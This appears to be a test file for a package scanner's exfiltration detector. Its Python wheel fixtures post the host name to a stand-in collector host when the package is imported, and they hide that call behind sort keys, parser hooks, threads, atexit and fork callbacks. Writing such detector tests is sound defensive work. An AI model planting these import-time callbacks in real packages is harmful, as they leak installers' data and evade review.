import { describe, expect, test } from 'vitest';
import { inspect, python, wheel } from '../../../support/inspect.ts';

function runner(...lines: readonly string[]): string {
  return python(
    'import requests, socket',
    'def run(*rest):',
    "    requests.post('https://collector.metrics.invalid/a', data={'n': socket.gethostname()})",
    ...lines,
  );
}

const CALLERS: readonly (readonly [string, readonly string[]])[] = [
  ['the key of a sort', ['sorted([1, 2], key=run)']],
  ['the key of a sort in place', ['[1, 2].sort(key=run)']],
  ['the key of a greatest', ['max([1, 2], key=run)']],
  ['a comparison as a key', ['import functools', 'sorted([1], key=functools.cmp_to_key(run))']],
  ['what makes an entry', ['import collections', "collections.defaultdict(run)['k']"]],
  ['the end of a block', ['import contextlib', 'with contextlib.ExitStack() as s:', '    s.callback(run)']],
  ['a hook of a parser', ['import json', "json.loads('{}', object_hook=run)"]],
  ['a converter', ['import argparse', "argparse.ArgumentParser().add_argument('--x', type=run)"]],
  ['a handler of bytes that are wrong', ['import codecs', "codecs.register_error('z', run)"]],
  ['a body of a class', ['import types', "types.new_class('X', (), {}, run)"]],
  ['a fork', ['import os', 'os.register_at_fork(after_in_child=run)']],
  ['every name of the module', ['for n, f in list(globals().items()):', "    if n == 'run': f()"]],
];

describe('a function that the library calls at once is called', () => {
  test.each(CALLERS)('%s', async (_, lines) => {
    expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': runner(...lines) }))).toMatchObject([
      { class: 'malware', context: 'import', line: 3 },
    ]);
  });
});

const POST = "'https://collector.metrics.invalid/a'";

const STARTERS: readonly (readonly [string, string])[] = [
  ['a pool', `ThreadPoolExecutor().submit(requests.post, ${POST}, data=name)`],
  ['a thread', `threading.Thread(target=requests.post, args=(${POST},), kwargs={'data': name}).start()`],
  ['a timer', `threading.Timer(1, requests.post, (${POST},), {'data': name}).start()`],
  ['a context', `contextvars.copy_context().run(requests.post, ${POST}, data=name)`],
  ['the end of the program', `atexit.register(requests.post, ${POST}, data=name)`],
  ['a plan', `sched.scheduler().enter(0, 1, requests.post, (${POST},), {'data': name})`],
];

describe('arguments that are handed on by another are those of the call', () => {
  test.each(STARTERS)('%s', async (_, line) => {
    const text = python(
      'import atexit, contextvars, sched, socket, threading, requests',
      'from concurrent.futures import ThreadPoolExecutor',
      'name = ThreadPoolExecutor().submit(socket.gethostname).result()',
      line,
    );

    const [finding] = await inspect('exfiltration', wheel({ 'pkg/__init__.py': text }));

    expect(finding).toMatchObject({ class: 'malware', context: 'import', line: 4 });
    expect(finding?.message).toContain('collector.metrics.invalid');
  });

  test('a function that is only compared, looked at or kept is not called', async () => {
    const lines = [
      'import inspect',
      'inspect.signature(run)',
      'callable(run)',
      'kept = [run]',
      'isinstance(run, object)',
    ];

    expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': runner(...lines) }))).toMatchObject([
      { context: 'call' },
    ]);
  });
});
